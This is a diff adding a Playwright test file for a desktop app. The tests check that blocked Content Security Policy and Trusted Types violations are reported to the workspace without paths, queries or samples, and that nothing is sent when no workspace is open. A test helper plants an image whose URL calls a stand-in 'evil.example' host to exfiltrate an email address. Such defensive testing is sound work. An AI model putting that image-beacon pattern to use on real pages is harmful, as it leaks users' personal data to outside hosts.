@@ -1,0 +1,61 @@
+import type { Page } from '@playwright/test';
+import { expect, newestPage, test } from './desktop.ts';
+import { chooserPage } from './workspaces.ts';
+
+/** Asks for a picture of somebody else's and makes markup of words: both are refused. */
+const doWhatIsRefused = (page: Page) =>
+  page.evaluate(() => {
+    const picture = document.createElement('img');
+    picture.src = 'https://evil.example/steal.png?mail=nora@people.example';
+    document.body.append(picture);
+    try {
+      document.body.insertAdjacentHTML('beforeend', '<b>nora@people.example</b>');
+    } catch {
+      // As it should be.
+    }
+  });
+
+const isReport = (request: { url(): string; method(): string }) =>
+  request.url().includes('browser-reports') && request.method() === 'POST';
+
+test('what a page of the app was refused is told to its workspace, without paths, queries and samples', async ({
+  computer,
+  workspace,
+}) => {
+  const page = await newestPage(await computer.launch({ workspace }));
+  const reports: Promise<{ body: string | null; status: number | undefined }>[] = [];
+  page.on('request', (request) => {
+    if (!isReport(request)) return;
+    const answered = request.response().then((answer) => answer?.status());
+    reports.push(answered.then((status) => ({ body: request.postData(), status })));
+  });
+  await doWhatIsRefused(page);
+  await doWhatIsRefused(page);
+  await expect.poll(() => reports.length).toBe(2);
+  const told = await Promise.all(reports);
+  expect(told.map(({ status }) => status)).toEqual([204, 204]);
+  const text = told.map(({ body }) => body).join('\n');
+  expect(text).toContain('"effectiveDirective":"img-src","blockedURL":"https://evil.example"');
+  expect(text).toContain('"effectiveDirective":"require-trusted-types-for"');
+  expect(text).not.toMatch(/nora|steal|mail=|sample/);
+});
+
+test('where no workspace is open, what was refused is told to nobody', async ({ computer }) => {
+  const page = await chooserPage(await computer.launch());
+  const sent: string[] = [];
+  page.on('request', (request) => {
+    if (request.method() !== 'GET') sent.push(request.url());
+  });
+  const refused = page.evaluate(
+    () =>
+      new Promise((resolve) => {
+        document.addEventListener('securitypolicyviolation', () => setTimeout(resolve), {
+          once: true,
+        });
+      }),
+  );
+  await doWhatIsRefused(page);
+  await refused;
+  expect(sent).toEqual([]);
+  expect(computer.asked).toEqual([]);
+});
